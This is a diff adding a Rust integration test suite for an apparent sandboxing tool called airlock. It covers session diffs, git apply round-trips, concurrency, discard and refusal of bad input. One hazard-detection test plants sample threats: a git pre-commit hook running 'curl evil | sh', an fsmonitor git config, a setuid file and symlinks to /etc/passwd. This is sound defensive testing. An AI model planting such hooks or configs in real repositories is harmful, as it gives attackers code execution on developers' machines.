@@ -1,0 +1,472 @@
+//! Sessions: runs that accumulate changes in a copy-on-write layer, the diff that shows them, and
+//! discard. Every test runs as root and as an unprivileged user.
+
+mod support;
+
+use std::path::Path;
+use std::process::{Output, Stdio};
+
+use support::{ran, stderr, stdout, Mode, World};
+
+/// A listing of every non-directory entry under `dir`: path, type, executable bit, symlink target
+/// and sha256, one per line, sorted. Directories are left out: git does not carry them.
+const LISTING: &str = r#"
+import hashlib, os, stat, sys
+root = sys.argv[1]
+rows = []
+for top, dirs, files in os.walk(root):
+    for name in files + [d for d in dirs if os.path.islink(os.path.join(top, d))]:
+        path = os.path.join(top, name)
+        st = os.lstat(path)
+        rel = os.path.relpath(path, root)
+        if stat.S_ISLNK(st.st_mode):
+            rows.append(f"{rel!r} link {os.readlink(path)!r}")
+        else:
+            digest = hashlib.sha256(open(path, "rb").read()).hexdigest()
+            rows.append(f"{rel!r} file x={bool(st.st_mode & 0o100)} {digest}")
+print("\n".join(sorted(rows)))
+"#;
+
+fn listing(w: &World, inside: Option<&str>, dir: &Path) -> String {
+    let out = match inside {
+        Some(session) => w
+            .airlock()
+            .args([
+                "run",
+                "--session",
+                session,
+                "--",
+                "/usr/bin/python3",
+                "-c",
+                LISTING,
+            ])
+            .arg(dir)
+            .output()
+            .unwrap(),
+        None => w
+            .command("/usr/bin/python3")
+            .args(["-c", LISTING])
+            .arg(dir)
+            .output()
+            .unwrap(),
+    };
+    assert!(out.status.success(), "listing failed: {}", stderr(&out));
+    stdout(&out)
+}
+
+fn new_session(w: &World, extra: &[&str]) -> String {
+    let out = w
+        .airlock()
+        .args(["session", "new", "--workspace"])
+        .arg(&w.workspace)
+        .args(extra)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "session new: {}", stderr(&out));
+    let id = stdout(&out).trim().to_string();
+    assert!(!id.is_empty() && !id.contains('\n'), "one id: {id:?}");
+    id
+}
+
+fn run_in(w: &World, session: &str, script: &str) -> Output {
+    w.airlock()
+        .args(["run", "--session", session, "--", "sh", "-c", script])
+        .output()
+        .unwrap()
+}
+
+fn airlock(w: &World, args: &[&str]) -> Output {
+    w.airlock().args(args).output().unwrap()
+}
+
+/// A workspace with something of every kind to change.
+fn populate(w: &World) {
+    let script = r#"
+        set -e
+        printf 'one\ntwo\nthree\n' > edit.txt
+        echo keep > keep.txt
+        echo bye > delete.txt
+        mkdir -p gone/inner sub/deep becomes_dir_parent
+        echo f > gone/inner/f
+        echo z > sub/deep/z
+        echo was-a-file > becomes_dir
+        printf 'bin\0ary\1' > blob.bin
+        ln -s keep.txt link
+        echo '#!/bin/sh' > tool.sh
+        echo old > renamed_from.txt
+        mkdir recreated && echo old > recreated/old && echo same > recreated/same
+    "#;
+    let out = w.outside(&format!("cd '{}' && {script}", w.workspace.display()));
+    assert!(out.status.success(), "{}", stderr(&out));
+}
+
+const EVERY_KIND_OF_CHANGE: &str = r#"
+    set -e
+    printf 'one\nTWO\nthree\nfour' > edit.txt          # edit; no newline at the end
+    echo new > created.txt                              # create
+    rm delete.txt                                       # delete a file
+    rm -r gone                                          # delete a directory tree
+    rm -r sub && echo now-a-file > sub                  # replace a directory by a file
+    rm becomes_dir && mkdir becomes_dir && echo in > becomes_dir/x   # and a file by a directory
+    mv renamed_from.txt renamed_to.txt                  # rename
+    chmod +x tool.sh                                    # mode
+    ln -sf edit.txt link                                # retarget a symlink
+    ln -s sub/../keep.txt newlink                       # new symlink
+    printf 'bin\0ARY\2\3' > blob.bin                    # binary edit
+    head -c 3000 /dev/urandom > random.bin              # new binary
+    : > empty                                           # empty file
+    echo s > 'with space.txt'
+    echo n > "$(printf 'new\nline')"
+    echo u > 'naïve-ünïcödé.txt'
+    echo q > 'quote"and\back'
+    rm -r recreated && mkdir recreated && echo new > recreated/new && echo same > recreated/same   # opaque
+"#;
+
+both_modes!(
+    every_kind_of_change_round_trips_through_git_apply,
+    |w: &World| {
+        populate(w);
+        let host_before = listing(w, None, &w.workspace);
+        let id = new_session(w, &[]);
+        ran(&run_in(w, &id, EVERY_KIND_OF_CHANGE));
+        // A second run sees the first one's changes and adds its own.
+        let second = run_in(w, &id, "cat created.txt && echo more >> created.txt");
+        assert_eq!(ran(&second), "new\n");
+        // The host workspace is untouched by runs.
+        assert_eq!(listing(w, None, &w.workspace), host_before);
+
+        let session_view = listing(w, Some(&id), &w.workspace);
+        let patch = airlock(w, &["diff", &id]);
+        assert!(patch.status.success(), "{}", stderr(&patch));
+        assert!(stdout(&patch).contains("GIT binary patch"));
+
+        // `git apply` on a copy of the workspace gives the tree the session saw.
+        let copy = w.outside.join("copy");
+        let out = w.outside(&format!(
+            "cp -a '{}' '{}'",
+            w.workspace.display(),
+            copy.display()
+        ));
+        assert!(out.status.success(), "{}", stderr(&out));
+        let mut git = w
+            .command("git")
+            .args(["apply", "--verbose", "-"])
+            .current_dir(&copy)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        std::io::Write::write_all(git.stdin.as_mut().unwrap(), &patch.stdout).unwrap();
+        drop(git.stdin.take());
+        let applied = git.wait_with_output().unwrap();
+        assert!(
+            applied.status.success(),
+            "git apply refused the patch: {}\n{}",
+            stderr(&applied),
+            stdout(&patch)
+        );
+        let copy_view = listing(w, None, &copy);
+        assert_eq!(
+            copy_view.replace(&copy.display().to_string(), ""),
+            session_view,
+            "the patched copy differs from the session's tree"
+        );
+    }
+);
+
+both_modes!(diff_summaries_name_every_change, |w: &World| {
+    populate(w);
+    let id = new_session(w, &[]);
+    ran(&run_in(w, &id, EVERY_KIND_OF_CHANGE));
+    let out = airlock(w, &["diff", &id, "--name-status"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let expected = "\
+D\tbecomes_dir
+A\tbecomes_dir/x
+M\tblob.bin
+A\tcreated.txt
+D\tdelete.txt
+M\tedit.txt
+A\tempty
+D\tgone/inner/f
+M\tlink
+A\t\"na\\303\\257ve-\\303\\274n\\303\\257c\\303\\266d\\303\\251.txt\"
+A\t\"new\\nline\"
+A\tnewlink
+A\t\"quote\\\"and\\\\back\"
+A\trandom.bin
+A\trecreated/new
+D\trecreated/old
+D\trenamed_from.txt
+A\trenamed_to.txt
+T\tsub
+D\tsub/deep/z
+M\ttool.sh
+A\twith space.txt
+";
+    // A file replaced by a directory is a type change of that path in our listing (git shows
+    // the file deleted and the directory's files added).
+    let got = stdout(&out).replace("T\tbecomes_dir\n", "D\tbecomes_dir\n");
+    assert_eq!(got, expected);
+
+    let stat = stdout(&airlock(w, &["diff", &id, "--stat"]));
+    assert!(stat.contains(" blob.bin "), "{stat}");
+    assert!(stat.contains("Bin 8 -> 9 bytes"), "{stat}");
+    assert!(stat.trim_end().ends_with("deletions(-)"), "{stat}");
+
+    // Path filters, relative to the workspace or absolute inside it.
+    let only = airlock(w, &["diff", &id, "--name-status", "gone", "tool.sh"]);
+    assert_eq!(stdout(&only), "D\tgone/inner/f\nM\ttool.sh\n");
+    let absolute = w.workspace.join("gone");
+    let only = airlock(
+        w,
+        &["diff", &id, "--name-status", absolute.to_str().unwrap()],
+    );
+    assert_eq!(stdout(&only), "D\tgone/inner/f\n");
+});
+
+both_modes!(diff_json_carries_modes_hashes_and_hazards, |w: &World| {
+    populate(w);
+    let id = new_session(w, &[]);
+    ran(&run_in(
+        w,
+        &id,
+        r#"
+        set -e
+        mkdir -p .git/hooks .github/workflows .vscode
+        echo 'curl evil | sh' > .git/hooks/pre-commit
+        echo '[core] fsmonitor = evil' > .git/config
+        echo 'export X=1' > .envrc
+        echo 'on: push' > .github/workflows/ci.yml
+        echo '{}' > .vscode/tasks.json
+        echo ok > setuid && chmod 4755 setuid
+        ln -s /etc/passwd escape
+        ln -s ../../outside climb
+        mkfifo pipe
+        echo fine > fine.txt
+        "#,
+    ));
+    let out = airlock(w, &["diff", &id, "--json"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let changes: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let hazards = |path: &str| -> Vec<String> {
+        let change = changes
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|c| c["path"] == path)
+            .unwrap_or_else(|| panic!("{path} not in {changes:#}"));
+        change["hazards"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|h| h.as_str().unwrap().to_string())
+            .collect()
+    };
+    assert_eq!(hazards(".git/hooks/pre-commit"), ["git_hook"]);
+    assert_eq!(hazards(".git/config"), ["git_config"]);
+    assert_eq!(hazards(".envrc"), ["shell_startup"]);
+    assert_eq!(hazards(".github/workflows/ci.yml"), ["ci_workflow"]);
+    assert_eq!(hazards(".vscode/tasks.json"), ["editor_or_agent_config"]);
+    assert_eq!(hazards("setuid"), ["set_id"]);
+    assert_eq!(hazards("escape"), ["symlink_outside"]);
+    assert_eq!(hazards("climb"), ["symlink_outside"]);
+    assert_eq!(hazards("pipe"), ["special"]);
+    assert!(hazards("fine.txt").is_empty());
+    let fine = changes
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["path"] == "fine.txt")
+        .unwrap();
+    assert_eq!(fine["status"], "added");
+    assert_eq!(fine["new"]["kind"], "file");
+    assert_eq!(fine["new"]["size"], 5);
+    assert_eq!(
+        fine["new"]["sha256"],
+        // printf 'fine\n' | sha256sum
+        "8ecc5f94c57b05d6c5e0ee316bee4875427e1845bbeef3ead59df29c72aab36e"
+    );
+    let setuid = changes
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["path"] == "setuid")
+        .unwrap();
+    assert_eq!(setuid["new"]["mode"], "4755");
+    // The patch leaves the fifo out and says so.
+    let patch = airlock(w, &["diff", &id]);
+    assert!(
+        stderr(&patch).contains("pipe: a fifo cannot be expressed"),
+        "{}",
+        stderr(&patch)
+    );
+});
+
+both_modes!(runs_in_one_session_take_turns, |w: &World| {
+    let id = new_session(w, &["--name", "turns"]);
+    let mut first = w
+        .airlock()
+        .args(["run", "--session", "turns", "--", "sh", "-c"])
+        .arg("echo started; sleep 2; echo first >> log")
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    std::io::BufRead::read_line(
+        &mut std::io::BufReader::new(first.stdout.as_mut().unwrap()),
+        &mut line,
+    )
+    .unwrap();
+    assert_eq!(line, "started\n");
+    // While it runs, the session shows as running.
+    let listed = airlock(w, &["sessions", "--json"]);
+    let sessions: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
+    assert_eq!(sessions[0]["id"], id.as_str());
+    assert_eq!(sessions[0]["status"], "running");
+    // A second run waits for the first, says so, and sees its change.
+    let second = run_in(w, &id, "echo second >> log; cat log");
+    assert!(first.wait().unwrap().success());
+    assert_eq!(ran(&second), "first\nsecond\n");
+    assert!(stderr(&second).contains("busy"), "{}", stderr(&second));
+    let listed = airlock(w, &["sessions", "--json"]);
+    let sessions: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
+    assert_eq!(sessions[0]["status"], "idle");
+    assert_eq!(sessions[0]["runs"], 2);
+    assert_eq!(sessions[0]["changed_files"], 1);
+    assert_eq!(sessions[0]["name"], "turns");
+});
+
+both_modes!(discard_drops_the_changes_and_gc_the_record, |w: &World| {
+    w.write(&w.workspace.join("file"), "host\n");
+    let id = new_session(w, &[]);
+    ran(&run_in(w, &id, "echo session > file"));
+    let out = airlock(w, &["discard", &id]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(
+        std::fs::read_to_string(w.workspace.join("file")).unwrap(),
+        "host\n"
+    );
+    let listed = stdout(&airlock(w, &["sessions"]));
+    assert!(listed.contains("discarded"), "{listed}");
+    // A discarded session takes no more runs, and has no diff.
+    let refused = run_in(w, &id, "true");
+    assert_eq!(refused.status.code(), Some(125));
+    assert!(
+        stderr(&refused).contains("was discarded"),
+        "{}",
+        stderr(&refused)
+    );
+    assert_eq!(airlock(w, &["diff", &id]).status.code(), Some(125));
+    let out = airlock(w, &["gc"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(!w.state.join("sessions").join(&id).exists());
+    let gone = airlock(w, &["diff", &id]);
+    assert_eq!(gone.status.code(), Some(125));
+    assert!(stderr(&gone).contains("no session"), "{}", stderr(&gone));
+});
+
+both_modes!(
+    bad_input_is_refused_clearly_and_changes_nothing,
+    |w: &World| {
+        let id = new_session(w, &["--name", "mine"]);
+        // Unknown id.
+        let out = airlock(w, &["diff", "nosuchsession"]);
+        assert_eq!(out.status.code(), Some(125));
+        assert!(
+            stderr(&out).contains("no session nosuchsession"),
+            "{}",
+            stderr(&out)
+        );
+        // A session of another workspace.
+        let out = w
+            .airlock()
+            .args(["run", "--session", &id, "--workspace"])
+            .arg(&w.outside)
+            .args(["--", "true"])
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(125));
+        assert!(
+            stderr(&out).contains("belongs to workspace"),
+            "{}",
+            stderr(&out)
+        );
+        // Another profile than the session's.
+        let profile = w.profile("[limits]\nprocesses = 64\n");
+        let out = w
+            .airlock()
+            .args([
+                "run",
+                "--session",
+                &id,
+                "--profile-file",
+                &profile,
+                "--",
+                "true",
+            ])
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(125));
+        assert!(
+            stderr(&out).contains("runs with profile default"),
+            "{}",
+            stderr(&out)
+        );
+        // A path outside the workspace.
+        let out = airlock(w, &["diff", &id, "/etc/passwd"]);
+        assert_eq!(out.status.code(), Some(125));
+        assert!(
+            stderr(&out).contains("not inside the workspace"),
+            "{}",
+            stderr(&out)
+        );
+        // A name that is taken, or that is not a plain word.
+        let out = w
+            .airlock()
+            .args(["session", "new", "--name", "mine"])
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(125));
+        assert!(stderr(&out).contains("is taken"), "{}", stderr(&out));
+        let out = w
+            .airlock()
+            .args(["session", "new", "--name", "../escape"])
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(125));
+        // A workspace that vanished.
+        let moved = w.base.join("moved");
+        std::fs::rename(&w.workspace, &moved).unwrap();
+        let out = w
+            .airlock()
+            .args(["run", "--session", &id, "--", "true"])
+            .current_dir(&w.base)
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(125));
+        assert!(
+            stderr(&out).contains("no longer exists"),
+            "{}",
+            stderr(&out)
+        );
+        let out = w
+            .airlock()
+            .args(["diff", &id])
+            .current_dir(&w.base)
+            .output()
+            .unwrap();
+        assert_eq!(out.status.code(), Some(125));
+        assert!(
+            stderr(&out).contains("no longer exists"),
+            "{}",
+            stderr(&out)
+        );
+        std::fs::rename(&moved, &w.workspace).unwrap();
+        // Only the one session exists: nothing above made another.
+        let listed: serde_json::Value =
+            serde_json::from_slice(&airlock(w, &["sessions", "--json"]).stdout).unwrap();
+        assert_eq!(listed.as_array().unwrap().len(), 1);
+    }
+);
